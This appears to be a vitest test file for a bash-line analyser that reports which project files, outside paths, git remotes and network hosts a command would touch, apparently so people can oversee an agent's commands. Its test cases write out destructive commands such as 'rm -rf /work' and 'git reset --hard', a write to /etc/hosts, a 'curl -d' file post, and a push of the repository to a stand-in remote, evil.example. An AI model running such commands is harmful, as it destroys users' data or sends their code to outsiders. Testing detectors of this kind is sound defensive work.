import { expect, test } from 'vitest';
import { loadBash } from '#server/platform/parsers/bash';
import { reachSentences } from '../action-reach.ts';
import { reachOfChanges } from './edit-reach.ts';
import { interpret } from './interpret.ts';
import { touchedFiles } from './touched-files.ts';
import { isTouched, mayHold } from './touched-path.ts';
import { remoteAddresses, touchedHosts, touchedRemotes } from './touched-remotes.ts';

const parse = await loadBash();
const facts = { cwd: '/work', worktree: '/work', home: '/home/agent', branch: 'work' };
const read = (line: string) => interpret(parse(line), facts);

const project = ['README.md', 'src/a.ts', 'src/b.ts', 'src/.hidden', 'src/deep/c.ts', 'tests/a.test.ts'];

/** What a line would do to the files of a project, in a line each. */
function told(line: string): string[] {
  return touchedFiles(read(line), facts).files.map(({ how, among, paths, bound = 'exactly' }) => {
    const files = project.filter((file) => paths.some((path) => isTouched(path, file)));
    return [how, among, bound, ...files].join(' ');
  });
}

test.each([
  ['rm src/a.ts', 'deletes all exactly src/a.ts'],
  ['rm src/*', 'deletes all exactly src/a.ts src/b.ts'],
  ['rm -rf src', 'deletes all exactly src/a.ts src/b.ts src/.hidden src/deep/c.ts'],
  ['cd src && rm -r deep *.md', 'deletes all exactly src/deep/c.ts'],
  ['rm -rf src/?.ts $X', 'deletes all least src/a.ts src/b.ts'],
  ['bash -c "rm -rf /work"', `deletes all exactly ${project.join(' ')}`],
  ["find . -name '*.test.ts' -delete", 'deletes all exactly tests/a.test.ts'],
  ["find src -name '*.ts' -mtime +3 -delete", 'deletes all most src/a.ts src/b.ts src/deep/c.ts'],
  ['echo x > README.md', 'overwrites all exactly README.md'],
  ['echo x >> README.md', 'changes all exactly README.md'],
  ['echo x | tee -a src/a.ts', 'changes all exactly src/a.ts'],
  ['cp /tmp/x src/b.ts', 'overwrites all exactly src/b.ts'],
  ['cp /tmp/a.ts /tmp/n.ts src/', 'overwrites all exactly src/a.ts'],
  ['cp -t src /tmp/b.ts', 'overwrites all exactly src/b.ts'],
  ['cp -r /tmp/deep src', 'overwrites all most src/deep/c.ts'],
  ['ln -sf /tmp/x README.md', 'overwrites all exactly README.md'],
  ['tar -xzf /tmp/a.tgz -C src', 'overwrites all most src/a.ts src/b.ts src/.hidden src/deep/c.ts'],
  ['tar xf /tmp/a.tar src/deep', 'overwrites all most src/deep/c.ts'],
  ['tar -czf README.md src', 'overwrites all exactly README.md'],
  ['unzip -o /tmp/a.zip -d tests', 'overwrites all most tests/a.test.ts'],
  ['rsync -a /tmp/deep src', 'overwrites all most src/deep/c.ts'],
  ['rsync -a --remove-source-files tests/ host:/srv', 'deletes all most tests/a.test.ts'],
  ['chmod -R 777 src/deep', 'rights all exactly src/deep/c.ts'],
  ['chmod -x README.md', 'rights all exactly README.md'],
  ['chown -hR ana: tests', 'rights all exactly tests/a.test.ts'],
  ['perl -pi -e s/a/b/ README.md', 'changes all exactly README.md'],
  ["sed -i 's/a/b/' src/*.ts", 'changes all exactly src/a.ts src/b.ts'],
  ['git rm -r src/deep', 'deletes all exactly src/deep/c.ts'],
  ['git reset --hard HEAD~1', `loses uncommitted most ${project.join(' ')}`],
  ['git checkout -- src', 'loses uncommitted most src/a.ts src/b.ts src/.hidden src/deep/c.ts'],
  ['git checkout main README.md', 'loses uncommitted most README.md'],
  ['git restore README.md', 'loses uncommitted most README.md'],
  ['git -C src restore a.ts', `loses uncommitted most ${project.join(' ')}`],
  ['git clean -fd tests', 'deletes untracked most tests/a.test.ts'],
])('[GU43] what %s touches', (line, expected) => {
  expect(told(line)).toEqual([expected]);
});

test('[GU43] what moves or mirrors does several things', () => {
  expect(told('mv src/a.ts src/b.ts')).toEqual(['moves all exactly src/a.ts', 'overwrites all exactly src/b.ts']);
  expect(told('mv src/deep tests')).toEqual(['moves all exactly src/deep/c.ts', 'overwrites all exactly']);
  const below = 'src/a.ts src/b.ts src/.hidden src/deep/c.ts';
  expect(told('rsync -a --delete /tmp/out/ src')).toEqual([
    `deletes all most ${below}`,
    `overwrites all most ${below}`,
  ]);
});

test.each([
  'cp -n /tmp/x README.md',
  'tar -tf /tmp/a.tgz',
  'tar -xkf /tmp/a.tgz',
  'unzip -l /tmp/a.zip',
  'rsync -an --delete /tmp/out/ src',
  'rsync -a src host:/srv',
  'chmod --help',
  'ls -la',
  'git status',
  'git clean -n',
  'npm test',
  'rm -rf /tmp/x',
  'echo x > /dev/null',
  'rm $X',
  'git reset',
])('[GU43] nothing is said of %s', (line) => {
  const { files, outside } = touchedFiles(read(line), facts);
  expect([
    ...files,
    ...outside,
    ...touchedRemotes(read(line), facts, () => undefined),
    ...touchedHosts(read(line)),
  ]).toEqual([]);
});

test('[GU43] what lies outside of the project is named', () => {
  expect(touchedFiles(read('rm -rf ../other src ~/x; echo x > /etc/hosts'), facts).outside).toEqual([
    '../other',
    '/home/agent/x',
    '/etc/hosts',
  ]);
});

test.each([
  ['git push', { how: 'push', name: 'origin', host: 'example.com', branches: ['work'] }],
  ['git push origin HEAD:main', { how: 'push', name: 'origin', host: 'example.com', branches: ['main'] }],
  [
    'git push -f https://u:p@git.example.org/x.git main',
    { how: 'force', name: 'git.example.org', host: 'git.example.org', branches: ['main'] },
  ],
  ['git push up --delete old', { how: 'delete', name: 'up', branches: ['old'] }],
  ['git fetch git@example.net:a/b.git', { how: 'fetch', name: 'example.net', host: 'example.net', branches: [] }],
])('[GU43] the remote of %s', (line, expected) => {
  const config = '[remote "origin"]\n\turl = git@example.com:team/x.git\n[branch "up"]\n\turl = https://no.example\n';
  expect(touchedRemotes(read(line), facts, (name) => remoteAddresses(config).get(name))).toEqual([expected]);
});

test('[GU43] a remote that the line itself adds has the address from there', () => {
  const remotes = touchedRemotes(
    read('git remote add x https://evil.example/a && git push x main'),
    facts,
    () => undefined,
  );
  expect(remotes.at(-1)).toEqual({ how: 'push', name: 'x', host: 'evil.example', branches: ['main'] });
});

test('[GU43] hosts are told where the words say them, this machine left out', () => {
  expect(
    touchedHosts(read('curl -d @a https://u:p@example.com/x?q=1; wget example.org; http POST api.example.net/a b=1')),
  ).toEqual(['example.com', 'example.org', 'api.example.net']);
  expect(touchedHosts(read('curl localhost:3000; curl https://$HOST/x; rsync -a . files.example.com:/srv'))).toEqual([
    'files.example.com',
  ]);
});

test('[GU43] only folders that may hold such files are looked into', () => {
  const [touched] = touchedFiles(read('rm src/*/c.ts'), facts).files;
  const folders = ['src', 'src/deep', 'src/deep/more', 'tests', '.git'];
  expect(folders.filter((folder) => touched?.paths.some((path) => mayHold(path, folder)))).toEqual(['src', 'src/deep']);
});

test('[GU43] a change of files is told by files and lines', () => {
  const reach = reachOfChanges([
    { path: 'a.ts', oldText: 'a\nb\nc\n', newText: 'a\nB\nc\nd\n' },
    { path: 'b.ts', oldText: 'x\ny\n', newText: null },
  ]);
  expect(reachSentences(reach)).toEqual([
    'Would delete 1 file (2 lines), all in the project: b.ts',
    'Would change 1 file (2 lines added, 1 removed), all in the project: a.ts',
  ]);
});

test('[GU43] the words are short', () => {
  const reach = {
    files: [{ how: 'deletes' as const, count: 5_000, lines: 12_345, bound: 'least' as const, paths: ['a', 'b', 'c'] }],
    outside: [],
    remotes: [{ how: 'push' as const, name: 'origin', host: 'github.com', branches: ['main'] }],
    hosts: ['example.com'],
  };
  expect(reachSentences(reach)).toEqual([
    'Would delete at least 5,000 files (12,345 lines), all in the project: a, b, c and 4,997 more',
    'Pushes to origin (github.com), branch main',
    'Speaks to example.com',
  ]);
  expect(reachSentences({ files: [], outside: ['/etc/hosts'], remotes: [], hosts: [] })).toEqual([
    'Reaches outside of the project: /etc/hosts',
  ]);
});
